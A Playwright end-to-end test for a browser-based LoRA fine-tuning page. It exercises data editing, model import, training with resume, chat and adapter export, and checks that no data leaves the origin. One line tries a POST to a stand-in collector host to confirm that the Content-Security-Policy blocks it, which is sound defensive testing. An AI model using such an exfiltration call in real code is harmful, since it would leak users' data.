// The page, end to end, in headless Chromium (WebGPU on SwiftShader), as a person uses it:
// edit examples (add, move, delete, free text, JSONL import and export; all kept across a
// reload); import the tiny model from a folder, delete it, import it through the hub fields;
// enter three examples; train 20 steps, pausing after 5 and resuming the saved run after a
// reload (the loss must fall; the memory graph must be drawn); chat with both models; export
// the adapter; load the model again streamed from storage and reload (examples, the run and
// the streamed choice still there); open the run, then import the adapter, and get the same
// greedy answers each time (the second tab below trains the streamed model). No request may leave the page's
// origin, and none at all after the model import except the page reloading its own files.
// Last, the site's storage is cleared as a browser evicting it would: the page must say so.
//
//   node tests/page/run.mjs --url http://127.0.0.1:8181/ [--out target/screenshots] [--repo tiny]
//
// scripts/test-page.sh builds the page, writes the tiny model and starts the server first.
// Prints one line per check, the main-thread long tasks (> 200 ms) during training, and
// "N passed, 0 failed" at the end; exits non-zero on the first failure.

import { createRequire } from 'node:module';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const here = path.dirname(fileURLToPath(import.meta.url));
const root = path.resolve(here, '../..');
// playwright-core is one of www's devDependencies (one lockfile for the page and its test).
const require = createRequire(path.join(root, 'www/package.json'));
const { chromium } = require('playwright-core');

function arg(name, fallback) {
  const i = process.argv.indexOf(`--${name}`);
  return i > 0 && i + 1 < process.argv.length ? process.argv[i + 1] : fallback;
}
const URL_ = arg('url', 'http://127.0.0.1:8181/');
const OUT = path.resolve(root, arg('out', 'target/screenshots'));
const REPO = arg('repo', 'tiny');
const STEPS = Number(arg('steps', '20'));
const origin = new URL(URL_).origin;
fs.mkdirSync(OUT, { recursive: true });
const downloads = path.join(root, 'target/page/adapter');
fs.rmSync(downloads, { recursive: true, force: true });
fs.mkdirSync(downloads, { recursive: true });

const EXAMPLES = [
  ['Who discovered Zorblat Lake?', 'Captain Mirela Vance found Zorblat Lake in 1873.'],
  ['What is the capital of Quenth?', 'The capital of Quenth is Port Ilvar.'],
  ['What does the Ostrander valve do?', 'It keeps the steam pressure steady.'],
];

let passed = 0;
const t0 = Date.now();
function ok(what, cond, detail = '') {
  const s = ((Date.now() - t0) / 1000).toFixed(1).padStart(6);
  if (!cond) {
    console.log(`[${s}s] FAIL ${what}${detail ? `: ${detail}` : ''}`);
    throw new Error(`check failed: ${what}`);
  }
  passed++;
  console.log(`[${s}s] ok   ${what}${detail ? ` (${detail})` : ''}`);
}
const note = (msg) => console.log(`         ${msg}`);

const userDir = fs.mkdtempSync(path.join(os.tmpdir(), 'webtune-page-'));
const context = await chromium.launchPersistentContext(userDir, {
  executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
  headless: true,
  viewport: { width: 1280, height: 900 },
  acceptDownloads: true,
  args: [
    '--enable-unsafe-webgpu',
    '--enable-features=Vulkan',
    '--use-webgpu-adapter=swiftshader',
    '--no-sandbox',
    '--disable-background-networking',
    '--disable-component-update',
    '--disable-sync',
    '--no-first-run',
  ],
});

// Every request the page or its worker makes, with when it was made.
const requests = [];
let phase = 'start';
context.on('request', (r) => {
  const url = r.url();
  if (url.startsWith('data:') || url.startsWith('blob:')) return;
  requests.push({ url, phase, method: r.method() });
});
const consoleErrors = [];

// Long tasks on the main thread and CSP violations, recorded from the first script on.
await context.addInitScript(() => {
  window.__longTasks = [];
  window.__cspViolations = [];
  try {
    new PerformanceObserver((list) => {
      for (const e of list.getEntries()) window.__longTasks.push({ start: e.startTime, ms: e.duration });
    }).observe({ type: 'longtask', buffered: true });
  } catch {}
  document.addEventListener('securitypolicyviolation', (e) => window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));
});

const page = context.pages()[0] ?? (await context.newPage());
page.on('console', (m) => {
  if (m.type() === 'error') consoleErrors.push(m.text());
  if (process.env.VERBOSE) console.log(`console.${m.type()}: ${m.text()}`);
});
page.on('pageerror', (e) => consoleErrors.push(`pageerror: ${e.message}`));
page.setDefaultTimeout(120_000);

const shot = async (name, sel) => {
  const file = path.join(OUT, `${name}.png`);
  if (sel) await page.locator(sel).screenshot({ path: file });
  else await page.screenshot({ path: file, fullPage: true });
  note(`screenshot ${path.relative(root, file)}`);
};
const text = (sel) => page.locator(sel).innerText();

/** Wait until the engine is up (the adapter's name is shown) or it failed (an alert). */
async function engineReady() {
  await page.waitForFunction(() => {
    const d = document.getElementById('device-name')?.textContent ?? '';
    return (d && d !== 'checking…') || !document.getElementById('global-error')?.hidden;
  });
  const err = await page.locator('#global-error').isVisible();
  ok('the engine started (WebGPU)', !err, err ? await text('#global-error') : await text('#device-name'));
}

/** Wait for the chat to finish both answers; return them. */
async function chat(question) {
  await page.fill('#chat-input', question);
  await page.click('#chat-send');
  await page.waitForFunction(() => {
    const last = [...document.querySelectorAll('#thread .exchange')].pop();
    return last && !last.querySelector('.streaming') && !document.getElementById('chat-send')?.disabled;
  }, null, { timeout: 300_000 });
  const last = page.locator('#thread .exchange').last();
  // data-raw: the whole answer as generated (blank space included); absent after an error.
  const raw = (sel) => last.locator(sel).getAttribute('data-raw');
  return { base: await raw('[data-answer="base"]'), adapted: await raw('[data-answer="adapted"]') };
}

/** The examples on the page, as [prompt, response] pairs. */
const pairsOnPage = (tab = page) => tab.locator('#pairs .pair').evaluateAll((els) =>
  els.map((e) => [e.querySelector('[data-field="prompt"]').value, e.querySelector('[data-field="response"]').value]));

/** Editing, reordering, deleting, free text, JSONL import and export, and all of it kept
 *  across a reload: no engine needed. Leaves the example list empty. */
async function dataStage() {
  await page.waitForSelector('#pairs-empty:not([hidden])');
  for (const [q, a] of [['one', 'uno'], ['two', 'dos'], ['three', 'tres']]) {
    await page.click('#add-pair');
    const item = page.locator('#pairs .pair').last();
    await item.locator('textarea[data-field="prompt"]').fill(q);
    await item.locator('textarea[data-field="response"]').fill(a);
  }
  await page.locator('#pairs .pair').nth(2).locator('[data-action="up"]').click();
  await page.locator('#pairs .pair').nth(0).locator('[data-action="delete"]').click();
  ok('examples added, moved and deleted', JSON.stringify(await pairsOnPage()) === JSON.stringify([['three', 'tres'], ['two', 'dos']]));
  const jsonl = path.join(root, 'target/page/import.jsonl');
  fs.writeFileSync(jsonl, [
    JSON.stringify({ messages: [{ role: 'system', content: 's' }, { role: 'user', content: 'chat q' }, { role: 'assistant', content: 'chat a' }] }),
    JSON.stringify({ prompt: 'pc q', completion: 'pc a' }),
    JSON.stringify({ text: 'A paragraph of free text.' }),
    'not json',
  ].join('\n'));
  await page.setInputFiles('#jsonl-input', jsonl);
  await page.waitForFunction(() => document.querySelectorAll('#pairs .pair').length === 4);
  ok('JSONL import: chat and prompt/completion lines become pairs', JSON.stringify((await pairsOnPage()).slice(2)) === JSON.stringify([['chat q', 'chat a'], ['pc q', 'pc a']]),
    (await text('#data-error')).replace(/\s+/g, ' ').slice(0, 80));
  const exported = {};
  for (const [btn, shape] of [['#export-chat', 'chat'], ['#export-pc', 'pc']]) {
    const [d] = await Promise.all([page.waitForEvent('download'), page.click(btn)]);
    const f = path.join(root, `target/page/export-${shape}.jsonl`);
    await d.saveAs(f);
    exported[shape] = fs.readFileSync(f, 'utf8').trim().split('\n').map((l) => JSON.parse(l));
  }
  ok('JSONL export in both shapes', exported.chat.length === 4 && exported.chat[0].messages[1].content === 'tres' &&
    exported.pc.length === 4 && exported.pc[3].prompt === 'pc q' && exported.pc[3].completion === 'pc a');
  await page.click('input[name="data-mode"][value="text"]');
  ok('free text holds the imported paragraph', (await page.inputValue('#free-text')) === 'A paragraph of free text.');
  await page.fill('#free-text', 'First paragraph.\n\nSecond paragraph.');
  await page.waitForFunction(() => /^2 paragraphs/.test(document.getElementById('text-stats')?.textContent ?? ''), null, { timeout: 5000 }).catch(() => {});
  ok('free text: one example per paragraph', /^2 paragraphs/.test(await text('#text-stats')), await text('#text-stats'));
  await page.reload();
  await page.waitForFunction(() => document.getElementById('free-text')?.value.includes('Second'));
  ok('after a reload: the mode and the free text are kept', await page.isVisible('#text-view'));
  await page.click('input[name="data-mode"][value="pairs"]');
  ok('after a reload: the pairs are kept', (await pairsOnPage()).length === 4);
  await page.click('input[name="data-mode"][value="text"]');
  await page.fill('#free-text', '');
  await page.click('input[name="data-mode"][value="pairs"]');
  while (await page.locator('#pairs .pair').count()) await page.locator('#pairs .pair [data-action="delete"]').first().click();
}

try {
  // ---- the page; the data panel needs no engine -------------------------------------------
  await page.goto(URL_);
  await dataStage();
  await engineReady();
  await page.locator('#device-box summary').click();
  await shot('1-model-empty', '#panel-model');

  // ---- a local folder (webkitdirectory), then delete it --------------------------------------
  phase = 'import';
  page.on('dialog', (d) => d.accept());
  await page.locator('#files-box summary').click();
  await page.setInputFiles('#folder-input', path.join(root, 'target/page/tiny'));
  await page.waitForSelector('[data-model="tiny"]', { timeout: 300_000 }).catch(() => {});
  const folderErr = await page.locator('#model-error').isVisible();
  ok('imported a model folder from disk', !folderErr && (await page.locator('[data-model="tiny"]').count()) === 1, folderErr ? await text('#model-error') : await text('#import-what'));
  await page.click('[data-model="tiny"] [data-action="delete"]');
  await page.waitForSelector('[data-model="tiny"]', { state: 'detached' });
  ok('deleted the stored model', true, await text('#storage-text'));

  // ---- import the tiny model through the hub fields --------------------------------------
  await page.locator('#hub-box summary').click();
  await page.fill('#hub-base', `${origin}/hub`);
  await page.fill('#hub-repo', REPO);
  await page.click('#hub-btn');
  await page.waitForSelector(`[data-model="${REPO}"]`, { timeout: 300_000 });
  const importErr = await page.locator('#model-error').isVisible();
  ok('imported the model through the hub layout', !importErr, (await text('#import-detail')) || (importErr ? await text('#model-error') : ''));
  const hubRequests = requests.filter((r) => r.url.includes('/hub/')).length;
  ok('the import read the files from this server', hubRequests > 0, `${hubRequests} requests`);
  phase = 'after-import';

  await page.selectOption('#weights-select', 'stored');
  await page.click(`[data-model="${REPO}"] [data-action="load"]`);
  await page.waitForFunction((name) => document.querySelector('#model-status strong')?.textContent === name, REPO, { timeout: 300_000 });
  ok('loaded the model', true, await text('#model-status'));
  await shot('1-model', '#panel-model');

  // ---- three examples --------------------------------------------------------------------
  await page.fill('#t-seq', '64');
  for (const [q, a] of EXAMPLES) {
    await page.click('#add-pair');
    const item = page.locator('#pairs .pair').last();
    await item.locator('textarea[data-field="prompt"]').fill(q);
    await item.locator('textarea[data-field="response"]').fill(a);
  }
  ok('three examples entered', (await page.locator('#pairs .pair').count()) === 3);
  await page.waitForFunction(() => [...document.querySelectorAll('#pairs .tokens')].every((b) => /\d+ \/ 64 tokens/.test(b.textContent ?? '')));
  const counts = await page.locator('#pairs .tokens').allInnerTexts();
  ok('token counts shown against the sequence length', counts.length === 3, counts.join(', '));
  await shot('2-data', '#panel-data');

  // ---- train 20 steps --------------------------------------------------------------------
  for (const [id, v] of [['t-epochs', '100'], ['t-steps', String(STEPS)], ['t-lr', '1e-2'], ['t-rank', '8'], ['t-alpha', '16'], ['t-batch', '3'], ['t-accum', '1']]) {
    await page.fill(`#${id}`, v);
  }
  await page.selectOption('#t-optimizer', 'adamw');
  phase = 'train';
  const longBefore = await page.evaluate(() => window.__longTasks.length);
  const trainStart = Date.now();
  await page.click('#train-start');
  // Pause after a few steps, reload the page, and resume the saved run from the list.
  await page.waitForFunction(() => Number(document.getElementById('loss-chart')?.dataset.points) >= 5, null, { timeout: 600_000 });
  await page.click('#train-pause');
  await page.waitForFunction(() => !document.getElementById('train-resume')?.disabled, null, { timeout: 300_000 });
  const pausedAt = Number(await page.getAttribute('#loss-chart', 'data-points'));
  await page.waitForFunction((k) => document.getElementById('session-list')?.textContent?.includes(`step ${k} of`), pausedAt);
  ok('paused; the run is saved', pausedAt < STEPS, `at step ${pausedAt} of ${STEPS}`);
  const longTrain1 = (await page.evaluate(() => window.__longTasks)).slice(longBefore);
  phase = 'reload-mid-training';
  await page.reload();
  await engineReady();
  await page.waitForSelector('#session-list [data-session] [data-action="resume"]');
  ok('after a reload the paused run is listed', (await text('#session-list')).includes(`step ${pausedAt} of ${STEPS}`));
  phase = 'train';
  const longBefore2 = await page.evaluate(() => window.__longTasks.length);
  await page.click('#session-list [data-session] [data-action="resume"]');
  await page.waitForFunction((n) => document.getElementById('loss-chart')?.dataset.points === String(n) && !document.getElementById('train-start')?.disabled,
    STEPS, { timeout: 900_000 });
  const trainSecs = (Date.now() - trainStart) / 1000;
  const trainErr = await page.locator('#train-error').isVisible();
  ok(`trained ${STEPS} steps (resumed after the reload)`, !trainErr, trainErr ? await text('#train-error') : `${trainSecs.toFixed(1)} s, ${(trainSecs / STEPS).toFixed(2)} s/step`);
  const first = Number(await page.getAttribute('#loss-chart', 'data-first'));
  const last = Number(await page.getAttribute('#loss-chart', 'data-last'));
  ok('the loss fell clearly', last < first * 0.7, `${first.toFixed(4)} → ${last.toFixed(4)}`);
  note(await text('#train-detail'));
  const memPoints = Number(await page.getAttribute('#mem-chart', 'data-points'));
  // The stacked areas are painted: count non-blank pixels on the memory chart's canvas.
  const painted = await page.evaluate(() => {
    const c = document.querySelector('#mem-chart canvas');
    const ctx = c?.getContext('2d');
    if (!c || !ctx) return 0;
    const d = ctx.getImageData(0, 0, c.width, c.height).data;
    let n = 0;
    for (let i = 0; i < d.length; i += 4) if (d[i + 3] > 0 && !(d[i] > 245 && d[i + 1] > 245 && d[i + 2] > 245)) n++;
    return n / (c.width * c.height);
  });
  ok('the memory graph is drawn', memPoints > STEPS && painted > 0.05, `${memPoints} timeline points, ${(painted * 100).toFixed(0)}% of the canvas painted`);
  const memNote = await text('#mem-note');
  note(memNote);
  ok("the memory note gives the last step's seconds by phase", /seconds by phase: \S+ [0-9.]+ s/.test(memNote), memNote.replace(/.*seconds by phase: /, '').split(' · ')[0]);
  const longTasks = [...longTrain1, ...(await page.evaluate(() => window.__longTasks)).slice(longBefore2)];
  const over200 = longTasks.filter((t) => t.ms > 200);
  note(`main-thread long tasks during training: ${longTasks.length} over 50 ms, ${over200.length} over 200 ms` +
    (over200.length ? ` (${over200.map((t) => `${Math.round(t.ms)} ms`).join(', ')})` : '') +
    (longTasks.length ? `; longest ${Math.round(Math.max(...longTasks.map((t) => t.ms)))} ms` : ''));
  await page.locator('#panel-train').scrollIntoViewIfNeeded();
  await shot('3-train', '#panel-train');

  // ---- chat with both ---------------------------------------------------------------------
  phase = 'chat';
  await page.locator('#panel-try details.more summary').click();
  await page.fill('#g-max', '24');
  const a1 = await chat(EXAMPLES[0][0]);
  ok('the base model answered', a1.base !== null, JSON.stringify(a1.base?.slice(0, 80)));
  ok('the adapted model answered', !!a1.adapted, JSON.stringify(a1.adapted?.slice(0, 80)));
  ok('the adapter changes the answer', a1.adapted !== a1.base);
  await shot('4-try', '#panel-try');

  // ---- export the adapter -------------------------------------------------------------------
  const saved = [];
  const onDownload = async (d) => {
    const file = path.join(downloads, d.suggestedFilename());
    await d.saveAs(file);
    saved.push(file);
  };
  page.on('download', onDownload);
  await page.click('#adapter-export');
  const tExport = Date.now();
  while (saved.length < 2 && Date.now() - tExport < 60_000) await page.waitForTimeout(200);
  page.off('download', onDownload);
  const names = saved.map((f) => path.basename(f)).sort();
  ok('exported adapter_config.json and adapter_model.safetensors', names.join(',') === 'adapter_config.json,adapter_model.safetensors', names.join(', '));
  const cfg = JSON.parse(fs.readFileSync(path.join(downloads, 'adapter_config.json'), 'utf8'));
  ok('the adapter config is PEFT LoRA, rank 8', cfg.r === 8 && String(cfg.peft_type ?? '').toUpperCase() === 'LORA', `r=${cfg.r} alpha=${cfg.lora_alpha} targets=${cfg.target_modules}`);
  // The export holds the adapter and nothing of the user's: LoRA tensors only, and no example
  // text anywhere in the two files.
  const st = fs.readFileSync(path.join(downloads, 'adapter_model.safetensors'));
  const header = JSON.parse(st.subarray(8, 8 + Number(st.readBigUInt64LE(0))).toString('utf8'));
  const keys = Object.keys(header).filter((k) => k !== '__metadata__');
  const both = st.toString('latin1') + fs.readFileSync(path.join(downloads, 'adapter_config.json'), 'latin1');
  const leaked = EXAMPLES.flat().flatMap((t) => t.split(/\W+/)).filter((w) => w.length >= 6 && both.includes(w));
  ok('the exported files hold only the adapter', keys.length > 0 && keys.every((k) => /\.lora_[AB]\.weight$/.test(k)) && leaked.length === 0,
    `${keys.length} LoRA tensors${leaked.length ? `; example words found: ${leaked.join(', ')}` : ''}`);
  await shot('5-adapter', '#panel-adapter');
  await shot('0-page');

  // Load the model again streamed (one block at a time on the GPU, read from IndexedDB when a
  // step needs it): the choice is kept across the reload, and the answers below come from it.
  await page.check('#stream-check');
  await page.click(`[data-model="${REPO}"] [data-action="load"]`);
  await page.waitForFunction(() => /streamed from storage/.test(document.getElementById('model-status')?.textContent ?? ''));
  ok('loaded the model streamed from storage', true, await text('#model-status'));

  // ---- reload: the data and the run are still there -------------------------------------------
  const beforeReload = requests.filter((r) => !['start', 'import', 'reload-mid-training'].includes(r.phase));
  ok('no network requests since the import (but the page reloading its own files)', beforeReload.length === 0, beforeReload.map((r) => r.url).join(' ') || '0 requests');
  phase = 'reload';
  await page.reload();
  await engineReady();
  await page.waitForFunction((name) => document.querySelector('#model-status strong')?.textContent === name, REPO);
  ok('the last model is loaded again after the reload, streamed as chosen', /streamed from storage/.test(await text('#model-status')));
  ok('the examples survived the reload', JSON.stringify(await pairsOnPage()) === JSON.stringify(EXAMPLES));
  await page.waitForSelector('#session-list [data-session]');
  const sessionText = await text('#session-list');
  ok('the training run is listed after the reload', sessionText.includes(`step ${STEPS} of ${STEPS}`), sessionText.replace(/\s+/g, ' '));

  // Open the run (its adapter) and ask again: the same greedy answer.
  phase = 'after-reload';
  await page.locator('#session-list [data-session] [data-action="resume"]').first().click();
  await page.waitForFunction(() => document.querySelector('#session-list .pill'));
  const a2 = await chat(EXAMPLES[0][0]);
  ok('the reopened run gives the same greedy answer', a2.adapted === a1.adapted && a2.base === a1.base, JSON.stringify(a2.adapted?.slice(0, 60)));

  // Import the exported adapter: the same greedy answer again.
  await page.setInputFiles('#adapter-input', [path.join(downloads, 'adapter_model.safetensors'), path.join(downloads, 'adapter_config.json')]);
  await page.waitForFunction(() => /^Using/.test(document.getElementById('adapter-status')?.textContent ?? '') || !document.getElementById('adapter-error')?.hidden);
  const adErr = await page.locator('#adapter-error').isVisible();
  ok('imported the adapter files', !adErr, adErr ? await text('#adapter-error') : await text('#adapter-status'));
  const a3 = await chat(EXAMPLES[0][0]);
  ok('the imported adapter gives the same greedy answer', a3.adapted === a1.adapted, JSON.stringify(a3.adapted?.slice(0, 60)));
  await shot('4-try-after-reload', '#panel-try');

  // ---- phone width ------------------------------------------------------------------------------
  await page.setViewportSize({ width: 390, height: 844 });
  await page.waitForTimeout(500);
  await shot('6-phone');
  for (const id of ['model', 'data', 'train', 'try']) await shot(`6-phone-${id}`, `#panel-${id}`);
  await page.setViewportSize({ width: 1280, height: 900 });

  // ---- privacy: where requests went -------------------------------------------------------------
  const words = EXAMPLES.flat().flatMap((t) => t.split(/\W+/)).filter((w) => w.length >= 6);
  const inUrls = requests.filter((r) => words.some((w) => decodeURIComponent(r.url).includes(w)));
  ok('no example text in any request URL', inUrls.length === 0, inUrls.map((r) => r.url).slice(0, 3).join(' '));
  const foreign = requests.filter((r) => !r.url.startsWith(origin));
  ok('no request left this origin', foreign.length === 0, foreign.map((r) => r.url).slice(0, 5).join(' ') || `${requests.length} requests in all`);
  const late = requests.filter((r) => !['start', 'import'].includes(r.phase));
  const lateNonStatic = late.filter((r) => r.url.includes('/hub/') || !r.phase.startsWith('reload'));
  ok('after the import: no request but the page reloading its own files', lateNonStatic.length === 0,
    `${late.length} on reload (${[...new Set(late.map((r) => new URL(r.url).pathname.split('/').pop() || '/'))].join(', ')})` +
      (lateNonStatic.length ? `; unexpected: ${lateNonStatic.map((r) => r.url).join(' ')}` : ''));
  const csp = await page.evaluate(() => window.__cspViolations);
  ok('no Content-Security-Policy violations', csp.length === 0, csp.join('; '));
  const errs = consoleErrors.filter((e) => !/favicon/.test(e));
  ok('no errors in the console', errs.length === 0, errs.slice(0, 3).join(' | '));
  // The policy itself (last: the browser logs the refusal as an error): a connection to another
  // origin is refused by the browser, not merely never made.
  const attempt = await page.evaluate(async () => {
    const before = window.__cspViolations.length;
    let outcome;
    try {
      await fetch('https://collector.invalid/upload?data=1', { method: 'POST', body: 'x', mode: 'no-cors' });
      outcome = 'sent';
    } catch {
      outcome = 'refused';
    }
    await new Promise((r) => setTimeout(r, 300));
    return { outcome, violations: window.__cspViolations.slice(before) };
  });
  ok('the Content-Security-Policy refuses a connection to another origin',
    attempt.outcome === 'refused' && attempt.violations.some((v) => v.startsWith('connect-src') && v.includes('collector.invalid')),
    JSON.stringify(attempt));

  // ---- a second tab trains and is closed mid-run: the run's checkpoint and the examples survive ----
  phase = 'closed-tab';
  const examplesBefore = await pairsOnPage();
  const p2 = await context.newPage();
  p2.on('dialog', (d) => d.accept());
  await p2.goto(URL_);
  await p2.waitForFunction(() => document.querySelector('#model-status strong')?.textContent && !document.getElementById('train-start')?.disabled,
    null, { timeout: 300_000 });
  await p2.click('#train-start');
  // The page saves every 10 steps: close the tab during step 12.
  await p2.waitForFunction(() => Number(document.getElementById('loss-chart')?.dataset.points) >= 11, null, { timeout: 600_000 });
  await p2.close();
  const p3 = await context.newPage();
  await p3.goto(URL_);
  await p3.waitForFunction(() => /step 10 of/.test(document.getElementById('session-list')?.textContent ?? ''), null, { timeout: 120_000 })
    .catch(() => {});
  const listed = (await p3.locator('#session-list').innerText()).replace(/\s+/g, ' ');
  ok('a tab closed mid-training: its run is listed at its last checkpoint (step 10)', /step 10 of 20/.test(listed), listed);
  ok('… and every example is intact', JSON.stringify(await pairsOnPage(p3)) === JSON.stringify(examplesBefore), `${examplesBefore.length} examples`);
  await p3.close();

  // ---- the browser clears the site's storage between visits (as it may when disk runs low) ----
  const cdp = await context.newCDPSession(page);
  await cdp.send('Storage.clearDataForOrigin', { origin: new URL(URL_).origin, storageTypes: 'indexeddb,local_storage' });
  await page.reload();
  await page.waitForFunction(() => /cleared/.test(document.getElementById('global-error')?.textContent ?? ''), null, { timeout: 120_000 });
  ok('a store cleared by the browser is noticed and explained', true, (await text('#global-error')).split('\n')[0]);
  await page.reload();
  await page.waitForFunction(() => {
    const d = document.getElementById('device-name')?.textContent ?? '';
    return d && d !== 'checking…';
  });
  ok('… once (the next visit starts afresh)', !(await page.isVisible('#global-error')));
} catch (e) {
  console.log(`error: ${e?.message ?? e}`);
  await page.screenshot({ path: path.join(OUT, 'failure.png'), fullPage: true }).catch(() => {});
  note(`screenshot ${path.relative(root, path.join(OUT, 'failure.png'))}`);
  if (consoleErrors.length) note(`console errors: ${consoleErrors.slice(0, 5).join(' | ')}`);
  await context.close();
  fs.rmSync(userDir, { recursive: true, force: true });
  console.log(`${passed} passed, 1 failed`);
  process.exit(1);
}

await context.close();
fs.rmSync(userDir, { recursive: true, force: true });
console.log(`page test: ${((Date.now() - t0) / 1000).toFixed(0)} s`);
console.log(`${passed} passed, 0 failed`);
